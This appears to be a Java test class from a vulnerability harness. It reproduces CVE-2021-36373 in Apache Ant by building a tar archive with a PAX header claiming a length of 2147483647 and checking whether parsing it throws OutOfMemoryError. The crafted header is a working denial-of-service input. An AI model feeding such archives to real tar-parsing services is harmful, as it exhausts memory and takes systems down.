import org.apache.tools.tar.*;

import java.io.*;

public class D_ant_2021_36373 {
    public static String run() throws Throwable {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        TarOutputStream o = new TarOutputStream(b);
        byte[] pax = "2147483647 path=x\n".getBytes();
        TarEntry e = new TarEntry("./PaxHeaders/x", (byte) 'x');
        e.setSize(pax.length);
        o.putNextEntry(e);
        o.write(pax);
        o.closeEntry();
        e = new TarEntry("x");
        e.setSize(0);
        o.putNextEntry(e);
        o.closeEntry();
        o.close();
        Object r = H.tr(
                () -> new TarInputStream(new ByteArrayInputStream(b.toByteArray())).getNextEntry());
        return H.v(H.is(r, OutOfMemoryError.class), H.cause(r));
    }
}
